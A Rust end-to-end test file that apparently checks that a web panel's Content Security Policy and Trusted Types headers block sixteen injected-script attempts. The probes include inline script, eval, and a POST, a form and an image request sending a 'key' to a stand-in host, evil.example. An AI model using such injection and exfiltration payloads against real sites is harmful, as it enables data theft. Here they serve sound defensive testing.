//! Probes: attempts of an injected script, inside the running panel with the release's headers. Each has to fail by a
//! violation of the policy.

use e2e::{FileFault, Page, StaticHost, page_test, panel_test};

/// A name, the directive that blocks the attempt, the attempt, and its result when blocked.
struct Probe {
    name: &'static str,
    by: &'static str,
    attempt: &'static str,
    failed: &'static str,
}

const TYPES: &str = "require-trusted-types-for";

const PROBES: [Probe; 16] = [
    Probe {
        name: "an inline script",
        by: TYPES,
        attempt: "const it = document.createElement('script'); it.append(document.createTextNode('window.ran = 1')); \
                  document.body.append(it); it.remove(); return String(window.ran);",
        failed: "undefined",
    },
    Probe {
        name: "an onerror attribute",
        by: TYPES,
        attempt: "const it = document.createElement('img'); it.setAttribute('onerror', 'window.ran = 1'); \
                  it.dispatchEvent(new Event('error')); return String(window.ran);",
        failed: "TypeError",
    },
    Probe {
        name: "eval",
        by: TYPES,
        attempt: "return String((0, eval)('1 + 1'));",
        failed: "EvalError",
    },
    Probe {
        name: "new Function",
        by: TYPES,
        attempt: "return String(new Function('return 2')());",
        failed: "EvalError",
    },
    Probe {
        name: "markup from a string",
        by: TYPES,
        attempt: "document.createElement('div').innerHTML = '<b>x</b>'; return 'set';",
        failed: "TypeError",
    },
    Probe {
        name: "a policy of its own for Trusted Types",
        by: "trusted-types",
        attempt: "trustedTypes.createPolicy('default', { createHTML: (text) => text }); return 'made';",
        failed: "TypeError",
    },
    Probe {
        name: "a style attribute",
        by: "style-src-attr",
        attempt: "const it = document.createElement('p'); it.setAttribute('style', 'color: rgb(1, 2, 3)'); \
                  document.body.append(it); const color = getComputedStyle(it).color; it.remove(); return color === 'rgb(1, 2, 3)' ? 'styled' : 'plain';",
        failed: "plain",
    },
    Probe {
        name: "a request to another host",
        by: "connect-src",
        attempt: "await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'key' }); return 'sent';",
        failed: "TypeError",
    },
    // The policy in the page's file allows it, for hosts without headers; the header and the running panel do not.
    Probe {
        name: "a request to another port of this machine",
        by: "connect-src",
        attempt: "await fetch('http://127.0.0.1:9/', { mode: 'no-cors' }); return 'sent';",
        failed: "TypeError",
    },
    Probe {
        name: "a frame in the panel",
        by: "frame-src",
        attempt: "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it); \
                  await new Promise((done) => it.addEventListener('load', done)); \
                  let inside = 'another page'; try { inside = it.contentDocument.URL; } catch {} it.remove(); return inside;",
        failed: "another page",
    },
    Probe {
        name: "a form sent elsewhere",
        by: "form-action",
        attempt: "const it = document.createElement('form'); it.method = 'post'; it.action = 'https://evil.example/'; \
                  document.body.append(it); it.submit(); it.remove(); return 'here';",
        failed: "here",
    },
    Probe {
        name: "another base for links",
        by: "base-uri",
        attempt: "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it); \
                  const base = document.baseURI; return base.startsWith(location.origin) ? 'unchanged' : base;",
        failed: "unchanged",
    },
    Probe {
        name: "an image of another host",
        by: "img-src",
        attempt: "const it = new Image(); it.src = 'https://evil.example/x.png?key'; \
                  return await new Promise((done) => { it.onload = () => done('loaded'); it.onerror = () => done('failed'); });",
        failed: "failed",
    },
    Probe {
        name: "a font of another host",
        by: "font-src",
        attempt: "await new FontFace('x', 'url(https://evil.example/x.woff2)').load(); return 'loaded';",
        failed: "NetworkError",
    },
    Probe {
        name: "a script of another host",
        by: TYPES,
        attempt: "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it); return 'asked';",
        failed: "TypeError",
    },
    Probe {
        name: "a worker from a string",
        by: TYPES,
        attempt: "new Worker(URL.createObjectURL(new Blob(['1']))); return 'started';",
        failed: "TypeError",
    },
];

async fn attempt(page: &Page, probe: &Probe) {
    fails(page, probe).await;
    page.policy_violation(probe.by).await;
}

async fn fails(page: &Page, probe: &Probe) {
    let outcome = page.evaluate(probe.attempt).await;
    let outcome = outcome.as_str().unwrap_or_default();
    assert!(
        outcome.starts_with(probe.failed),
        "{}: {outcome}",
        probe.name
    );
}

#[test]
fn what_an_injected_script_would_try_is_refused() {
    panel_test(async |panel| {
        panel.sign_in_to_demo().await;
        for probe in &PROBES {
            attempt(panel, probe).await;
        }
        panel.button("Refresh").click().await;
        panel.shows("36 addresses, all loaded").await;
    });
}

/// The policy without Trusted Types, which would block these attempts first.
const WITHOUT_TYPES: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
    img-src 'self'; connect-src 'self'; manifest-src 'self'; frame-ancestors 'none'";

#[test]
fn in_a_browser_without_trusted_types_the_policy_refuses_scripts_all_the_same() {
    page_test(async |page| {
        let host = StaticHost::start().await;
        host.set_fault("index.html", FileFault::Policy(WITHOUT_TYPES));
        page.visit(&host.url()).await;
        page.heading("Sign in").visible().await;
        for (name, by, failed) in [
            ("an inline script", "script-src-elem", "undefined"),
            ("an onerror attribute", "script-src-attr", "undefined"),
            ("eval", "script-src", "EvalError"),
            ("new Function", "script-src", "EvalError"),
            ("a script of another host", "script-src-elem", "asked"),
        ] {
            let probe = PROBES.iter().find(|probe| probe.name == name);
            let attempt = probe.expect("a probe of this name").attempt;
            let outcome = page.evaluate(attempt).await.to_string();
            assert!(outcome.contains(failed), "{name}: {outcome}");
            page.policy_violation(by).await;
        }
    });
}

#[test]
fn on_a_host_without_headers_requests_go_to_the_api_base_alone() {
    page_test(async |page| {
        let host = StaticHost::start().await;
        page.visit(&host.url()).await;
        page.heading("Sign in").visible().await;
        for name in [
            "a request to another host",
            "a request to another port of this machine",
        ] {
            let probe = PROBES.iter().find(|probe| probe.name == name);
            let probe = probe.expect("a probe of this name");
            fails(page, probe).await;
            page.page_policy_violation(probe.by).await;
        }
        let policies = page
            .evaluate(
                "return [...document.querySelectorAll('meta[http-equiv]')].map((policy) => policy.content).at(-1);",
            )
            .await;
        assert_eq!(policies, "connect-src 'self' https://api.paperspace.com");
    });
}

#[test]
fn the_headers_keep_the_panel_out_of_frames() {
    panel_test(async |panel| {
        panel.expect_script_error("frame-ancestors");
        let host = StaticHost::start().await;
        host.set_fault("404.html", FileFault::Framing(panel.server.url()));
        panel.visit(&format!("{}404.html", host.url())).await;
        panel.enter_frame().await;
        // The browser's error page, not the panel's own message.
        panel.does_not_show("Public IPs").await;
        panel
            .does_not_show("does not run inside another page")
            .await;
        let inside = panel.evaluate("return document.URL;").await;
        assert_eq!(inside, "chrome-error://chromewebdata/");
    });
}
